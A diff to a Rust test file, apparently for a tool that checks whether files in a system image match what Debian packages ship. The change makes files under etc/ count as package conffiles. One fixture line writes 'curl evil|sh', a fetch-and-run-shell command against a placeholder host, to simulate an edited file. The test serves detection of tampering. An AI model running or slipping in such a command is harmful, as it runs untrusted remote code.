@@ -349,7 +349,13 @@ fn a_unit_is_enabled_where_it_and_its_packages_script_ask_for_it() {
 fn copies_are_of_what_packages_ship() {
     let with = |path: &str, template: &str| {
         let pair = Pair::new(|image, version| {
-            image.deb("base-files", version, &[(template, version.as_bytes())]).write(path, version.as_bytes());
+            // What a deb ships in /etc is a conffile.
+            if template.starts_with("etc/") {
+                image.conffile("base-files", version, template, version.as_bytes());
+            } else {
+                image.deb("base-files", version, &[(template, version.as_bytes())]);
+            }
+            image.write(path, version.as_bytes());
         });
         let edited = pair.said(path, |image| _ = image.write(path, b"curl evil|sh"));
         let planted = pair.said(path, |image| _ = image.write(path, b"evil").write(template, b"evil"));
